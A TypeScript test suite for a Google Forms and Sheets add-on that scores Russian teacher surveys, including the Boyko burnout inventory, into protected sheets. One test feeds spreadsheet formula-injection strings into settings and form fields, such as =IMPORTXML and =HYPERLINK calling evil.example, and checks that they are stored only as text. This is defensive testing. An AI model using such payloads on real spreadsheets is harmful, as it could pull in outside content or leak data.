/**
 * The add-on's core path through build/Code.js in the emulator: instrument → published
 * form → response → protected, scored sheets, losing and doubling nothing.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { callsForOneSubmission } from '../../scripts/bench/cost';
import { getInstrument } from '../../src/core/instruments';
import { scoreColumns } from '../../src/core/workbook/scores-table';
import { answerForm, seededRandom } from '../../tools/demo-district/respondents';
import { COORDINATOR, Harness, SCHOOLS, SECOND_COORDINATOR, setUpWorkbook, sheetValues, SUBJECTS, TEACHER } from './harness';

interface FormInfo { formId: string; instrument: string; responseSheetName: string; publishedUrl: string; editUrl: string; status: string }

/** Column ids of the Boyko scores sheet, in order (its header is in the workbook's language). */
const BOYKO_COLUMNS = scoreColumns(getInstrument('boyko'));
const PROTECTED = 'You are trying to edit a protected cell or object. Please contact the spreadsheet owner to remove protection if you need to edit.';
const INSTRUMENTS = ['boyko', 'mentoring', 'network', 'deficits'];

function scoreRows(h: Harness, sheet = 'Баллы: Бойко'): unknown[][] {
  return sheetValues(h, sheet).slice(1);
}

function logCodes(h: Harness): string[] {
  return sheetValues(h, 'Журнал').slice(1).map((row) => String(row[4]));
}

function createForm(h: Harness, instrument: string): FormInfo {
  return h.call<FormInfo>('createSurveyForm', instrument);
}

/** Answers with every Boyko item answered `answer`, profile from the given school. */
function boykoAnswers(h: Harness, formId: string, answer: 'Да' | 'Нет', school = SCHOOLS[0]): Record<string, string> {
  const answers: Record<string, string> = {};
  for (const item of h.emulator.forms.describe(formId).items) {
    const values = (item.choices ?? []).map((c) => c.value);
    if (values.includes(answer)) answers[item.title] = answer;
  }
  answers['Образовательная организация'] = school;
  answers['Преподаваемый предмет (основной)'] = SUBJECTS[0];
  answers['Ваш возраст'] = '25–34 года';
  answers['Педагогический стаж'] = '0–3 года';
  return answers;
}

/** Boyko total for all-"yes" answers, summed here from the reference key itself. */
function referenceTotal(answer: 'yes' | 'no'): number {
  const reference = JSON.parse(readFileSync(join(__dirname, '..', 'fixtures', 'reference', 'boyko.json'), 'utf8')) as {
    phases: { symptoms: { key: { answer: string; points: number }[] }[] }[];
  };
  let total = 0;
  for (const phase of reference.phases) for (const symptom of phase.symptoms) for (const entry of symptom.key) if (entry.answer === answer) total += entry.points;
  return total;
}

describe('survey forms', () => {
  const h = setUpWorkbook();
  const forms = Object.fromEntries(INSTRUMENTS.map((id) => [id, createForm(h, id)]));

  test.each(INSTRUMENTS)('%s: published, anonymous, profile first, registered', (id) => {
    const form = h.emulator.forms.describe(forms[id].formId);
    expect(form.published).toBe(true);
    expect(form.acceptingResponses).toBe(true);
    expect(form.collectEmail).toBe(false);
    expect(form.title).toContain('Крымский район');
    expect(form.confirmationMessage).toBe('Спасибо! Ваши ответы записаны.');
    const questions = form.items.filter((item) => !['SECTION_HEADER', 'PAGE_BREAK'].includes(item.type));
    expect(questions.slice(0, 4).map((q) => q.title)).toEqual([
      'Образовательная организация', 'Преподаваемый предмет (основной)', 'Ваш возраст', 'Педагогический стаж',
    ]);
    expect(questions[0].choices?.map((c) => c.value)).toEqual(SCHOOLS);
    expect(questions[1].choices?.map((c) => c.value)).toEqual(SUBJECTS);
    expect(questions.slice(0, 4).every((q) => q.required)).toBe(true);
    expect(new Set(questions.map((q) => q.title)).size).toBe(questions.length);
    const registry = sheetValues(h, 'Реестр форм').slice(1);
    expect(registry.some((row) => row[0] === forms[id].formId && row[1] === id && row[8] === 'active')).toBe(true);
  });

  test('boyko: 84 yes/no items, required, on 7 pages of 12 after the profile page', () => {
    const form = h.emulator.forms.describe(forms.boyko.formId);
    const items = form.items.filter((item) => /^\d+\. /.test(item.title));
    expect(items).toHaveLength(84);
    expect(items.every((item) => item.type === 'MULTIPLE_CHOICE' && item.required && item.choices?.map((c) => c.value).join('/') === 'Да/Нет')).toBe(true);
    expect(items.map((item) => Number(item.title.split('.')[0]))).toEqual(Array.from({ length: 84 }, (_, i) => i + 1));
    expect(form.items.filter((item) => item.type === 'PAGE_BREAK')).toHaveLength(7);
  });

  test('mentoring: the role question branches to the mentee or the mentor page', () => {
    const form = h.emulator.forms.describe(forms.mentoring.formId);
    const role = form.items.find((item) => item.title === 'Ваша роль в программе наставничества');
    expect(role?.choices).toEqual([
      { value: 'Наставляемый', goTo: 'page:Для наставляемого' },
      { value: 'Наставник', goTo: 'page:Для наставника' },
    ]);
    const scales = form.items.filter((item) => item.type === 'SCALE');
    expect(scales.every((item) => item.bounds?.lower === 1 && item.bounds?.upper === 10)).toBe(true);
  });

  test('one form-submit trigger for the whole workbook, however many forms', () => {
    const triggers = h.emulator.runtime.triggers.filter((t) => t.eventType === 'ON_FORM_SUBMIT');
    expect(triggers).toHaveLength(1);
    expect(triggers[0].handler).toBe('onFormSubmit');
    h.call('saveSettings', { districtName: 'Крымский район', presetId: 'krymsk', schools: SCHOOLS, subjects: SUBJECTS, coordinators: [COORDINATOR], lang: 'ru' });
    expect(h.emulator.runtime.triggers.filter((t) => t.eventType === 'ON_FORM_SUBMIT')).toHaveLength(1);
  });

  test('re-creating a form keeps the old one registered and its answers counted', () => {
    const old = forms.network;
    const answers = answerForm(h.emulator.forms.describe(old.formId), seededRandom(3));
    h.emulator.forms.submit(old.formId, answers);
    const fresh = createForm(h, 'network');
    h.emulator.forms.submit(fresh.formId, answerForm(h.emulator.forms.describe(fresh.formId), seededRandom(4)));
    const registry = sheetValues(h, 'Реестр форм').slice(1).filter((row) => row[1] === 'network');
    expect(registry.map((row) => row[8])).toEqual(['replaced', 'active']);
    expect(scoreRows(h, 'Баллы: сетевое взаимодействие')).toHaveLength(2);
    h.call('recalculateAll');
    expect(scoreRows(h, 'Баллы: сетевое взаимодействие')).toHaveLength(2);
  });
});

describe('submissions', () => {
  test('a response is scored into the scores sheet on arrival', () => {
    const h = setUpWorkbook();
    const { formId } = createForm(h, 'boyko');
    h.emulator.forms.submit(formId, boykoAnswers(h, formId, 'Да'));
    h.emulator.forms.submit(formId, boykoAnswers(h, formId, 'Нет'));
    const header = sheetValues(h, 'Баллы: Бойко')[0] as string[];
    expect(header.slice(0, 6)).toEqual(['Ключ ответа', 'Отметка времени', 'ID формы', 'Версия анкеты', 'Статус', 'Нет ответа на вопросы']);
    expect(header[BOYKO_COLUMNS.indexOf('symptoms.1')]).toBe('Симптом 1: Переживание психотравмирующих обстоятельств');
    const rows = scoreRows(h);
    expect(rows).toHaveLength(2);
    const column = (id: string) => BOYKO_COLUMNS.indexOf(id);
    expect(rows.map((row) => row[column('total')])).toEqual([referenceTotal('yes'), referenceTotal('no')]);
    expect(rows[0][column('status')]).toBe('полный');
    expect(rows[0][column('school')]).toBe(SCHOOLS[0]);
    expect(rows[0][column('ageBand')]).toBe('25–34 года');
    expect(rows[0][column('experienceBand')]).toBe('0–3 года');
    expect(rows[0][column('phaseLevels.1')]).toMatch(/^(не сложился|складывается|сложился)$/);
    // Raw responses are Forms' own: the add-on wrote nothing there.
    expect(sheetValues(h, 'Ответы на форму (1)')).toHaveLength(3);
  });

  test('blank, duplicated and unregistered events are logged and change nothing', () => {
    const h = setUpWorkbook();
    const { formId } = createForm(h, 'boyko');
    const submitted = h.emulator.forms.submit(formId, boykoAnswers(h, formId, 'Да'));
    const ssId = h.emulator.spreadsheet.getId();
    h.emulator.forms.fireFormSubmit(ssId, submitted.event!);
    h.emulator.forms.fireFormSubmit(ssId, h.emulator.forms.phantomEvent(ssId));
    expect(scoreRows(h)).toHaveLength(1);
    expect(logCodes(h)).toEqual(['duplicateEvent', 'blankEvent']);

    // A form linked to the workbook by hand, not through the add-on.
    const stray = h.emulator.globals.FormApp as GoogleAppsScript.Forms.FormApp;
    const form = stray.create('Чужая форма');
    form.addTextItem().setTitle('Вопрос');
    form.setDestination(stray.DestinationType.SPREADSHEET, ssId);
    (form as unknown as { setPublished(b: boolean): void }).setPublished(true);
    h.emulator.forms.submit(form.getId(), { 'Вопрос': 'ответ' });
    expect(logCodes(h)).toEqual(['duplicateEvent', 'blankEvent', 'unregisteredSheet']);
    const log = sheetValues(h, 'Журнал');
    expect(log[3][3]).toContain('нет в реестре форм');
  });

  test('200 responses with duplicated and blank events interleaved: one scores row each, also after recalculation', () => {
    const h = setUpWorkbook();
    const { formId } = createForm(h, 'boyko');
    const form = h.emulator.forms.describe(formId);
    const random = seededRandom(200);
    const ssId = h.emulator.spreadsheet.getId();
    for (let i = 0; i < 200; i++) {
      const { event } = h.emulator.forms.submit(formId, answerForm(form, random));
      if (i % 7 === 0) h.emulator.forms.fireFormSubmit(ssId, event!);
      if (i % 11 === 0) h.emulator.forms.fireFormSubmit(ssId, h.emulator.forms.phantomEvent(ssId));
    }
    const onArrival = scoreRows(h);
    expect(onArrival).toHaveLength(200);
    expect(new Set(onArrival.map((row) => row[0])).size).toBe(200);
    const sorted = (rows: unknown[][]) => rows.map((row) => JSON.stringify(row)).sort();

    expect(h.call('recalculateAll')).toEqual({ done: true, processed: 200, incomplete: 0 });
    expect(sorted(scoreRows(h))).toEqual(sorted(onArrival));

    // A resumed recalculation: every run stops after one chunk, as if out of time.
    let progress = h.call<{ done: boolean }>('recalculateAll', { budgetMs: 0, chunkRows: 37 });
    let runs = 1;
    while (!progress.done) {
      // A response arriving between runs is scored once, not again by the recalculation.
      if (runs === 2) h.emulator.forms.submit(formId, answerForm(form, random));
      progress = h.call('continueRecalculation', { budgetMs: 0, chunkRows: 37 });
      runs++;
    }
    expect(runs).toBe(Math.ceil(201 / 37));
    const resumed = scoreRows(h);
    expect(resumed).toHaveLength(201);
    expect(new Set(resumed.map((row) => row[0])).size).toBe(201);
    const arrivedKeys = new Set(onArrival.map((row) => row[0]));
    expect(sorted(resumed.filter((row) => arrivedKeys.has(row[0])))).toEqual(sorted(onArrival));
  });

  test('a busy workbook leaves the response to the scheduled catch-up, scored exactly once', () => {
    const h = setUpWorkbook();
    const { formId } = createForm(h, 'boyko');
    h.emulator.locks.holdAs('script', 'another execution');
    h.emulator.forms.submit(formId, boykoAnswers(h, formId, 'Да'));
    expect(scoreRows(h)).toHaveLength(0);
    expect(logCodes(h)).toEqual(['lockBusy']);
    h.emulator.locks.release('script');
    h.call('runScheduledJobs');
    expect(scoreRows(h)).toHaveLength(1);
    h.call('runScheduledJobs');
    expect(scoreRows(h)).toHaveLength(1);
  });

  test('a lost form-submit trigger is re-created by the sidebar health check and said in the log', () => {
    const h = setUpWorkbook();
    createForm(h, 'boyko');
    const script = h.emulator.globals.ScriptApp as GoogleAppsScript.Script.ScriptApp;
    for (const trigger of script.getProjectTriggers()) if (trigger.getHandlerFunction() === 'onFormSubmit') script.deleteTrigger(trigger);
    h.call('getHealth');
    expect(h.emulator.runtime.triggers.filter((t) => t.handler === 'onFormSubmit')).toHaveLength(1);
    expect(logCodes(h)).toContain('triggerRecreated');
  });
});

describe('forms edited after responses', () => {
  test('reworded, deleted and added questions: mapped by the registry, the rest logged', () => {
    const h = setUpWorkbook();
    const { formId } = createForm(h, 'boyko');
    h.emulator.forms.submit(formId, boykoAnswers(h, formId, 'Да'));
    const FormApp = h.emulator.globals.FormApp as GoogleAppsScript.Forms.FormApp;
    const form = FormApp.openById(formId);
    const items = form.getItems();
    const item5 = items.find((item) => item.getTitle().startsWith('5. '))!;
    item5.setTitle('5. Переформулированный вопрос пять');
    form.deleteItem(items.find((item) => item.getTitle().startsWith('84. '))!);
    form.addTextItem().setTitle('Комментарий');
    h.call('relinkSurveyForms');
    expect(logCodes(h)).toEqual(['formItemsChanged']);

    const answers = boykoAnswers(h, formId, 'Да');
    answers['5. Переформулированный вопрос пять'] = 'Да';
    answers['Комментарий'] = 'без замечаний';
    h.emulator.forms.submit(formId, answers);
    const rows = scoreRows(h);
    expect(rows[1][BOYKO_COLUMNS.indexOf('status')]).toBe('неполный');
    expect(String(rows[1][BOYKO_COLUMNS.indexOf('missing')])).toBe('84');
    // Item 5 was still read through its new title: only 84 is missing.
    expect(logCodes(h)).toEqual(['formItemsChanged', 'incomplete', 'unmapped']);
    expect(h.call('recalculateAll')).toMatchObject({ done: true, processed: 2, incomplete: 1 });
  });
});

describe('protection and inert text', () => {
  test("a teacher's write to any add-on sheet is refused; a second coordinator's is not", () => {
    const h = setUpWorkbook();
    const { formId, responseSheetName } = createForm(h, 'boyko');
    h.emulator.forms.submit(formId, boykoAnswers(h, formId, 'Да'));
    const names = ['Настройки', 'Реестр форм', 'Журнал', 'Баллы: Бойко', responseSheetName];
    for (const name of names) {
      const sheet = h.emulator.spreadsheet.getSheetByName(name)!;
      expect(() => h.emulator.asUser(TEACHER, () => sheet.getRange('A2').setValue('изменено'))).toThrow(PROTECTED);
      expect(() => h.emulator.asUser(TEACHER, () => sheet.appendRow(['x']))).toThrow(PROTECTED);
      const protection = sheet.getProtections(h.emulator.globals.SpreadsheetApp ? (h.emulator.globals.SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp).ProtectionType.SHEET : ('SHEET' as never))[0];
      expect(protection.isWarningOnly()).toBe(false);
      expect(protection.getEditors().map((user) => user.getEmail()).sort()).toEqual([COORDINATOR, SECOND_COORDINATOR].sort());
    }
    const log = h.emulator.spreadsheet.getSheetByName('Журнал')!;
    h.emulator.asUser(SECOND_COORDINATOR, () => log.getRange('F1').setValue('заметка'));
    expect(log.getRange('F1').getValue()).toBe('заметка');
  });

  test('hostile text (=IMPORTXML(…), +1, @x) is stored as text, never as a formula', () => {
    const h = setUpWorkbook();
    const hostile = ['=IMPORTXML("http://evil.example","//a")', '+1', '@x', '-2+3'];
    const saved = h.call<{ ok: boolean }>('saveSettings', {
      districtName: '=HYPERLINK("http://evil.example")', presetId: 'krymsk', schools: hostile, subjects: SUBJECTS,
      coordinators: [COORDINATOR], lang: 'ru',
    });
    expect(saved.ok).toBe(true);
    const { formId } = createForm(h, 'boyko');
    for (const school of hostile) h.emulator.forms.submit(formId, boykoAnswers(h, formId, 'Нет', school));
    const FormApp = h.emulator.globals.FormApp as GoogleAppsScript.Forms.FormApp;
    FormApp.openById(formId).addTextItem().setTitle('=IMPORTXML("http://evil.example","//b")');
    const answers = boykoAnswers(h, formId, 'Нет', hostile[0]);
    answers['=IMPORTXML("http://evil.example","//b")'] = '=1+1';
    h.emulator.forms.submit(formId, answers);

    for (const name of ['Настройки', 'Баллы: Бойко', 'Журнал']) {
      const range = h.emulator.spreadsheet.getSheetByName(name)!.getDataRange();
      expect(range.getFormulas().flat().filter((formula) => formula !== '')).toEqual([]);
    }
    const settings = sheetValues(h, 'Настройки').map((row) => row[2]);
    expect(settings).toEqual(expect.arrayContaining([...hostile, '=HYPERLINK("http://evil.example")']));
    expect(scoreRows(h).map((row) => row[BOYKO_COLUMNS.indexOf('school')])).toEqual([...hostile, hostile[0]]);
    expect(String(sheetValues(h, 'Журнал').slice(-1)[0][3])).toContain('=IMPORTXML("http://evil.example","//b")');
  });
});

describe('cost per submission', () => {
  test('the same service calls with 10 and with 10,000 rows already in the sheet', () => {
    const small = callsForOneSubmission(10);
    const large = callsForOneSubmission(10_000);
    expect(large).toEqual(small);
    expect(small['Sheet.appendRow']).toBe(1);
    // Nothing is read: not the response, not the registry sheet (its compact form is in the workbook's state).
    expect(small['Range.getValues']).toBeUndefined();
  });
});
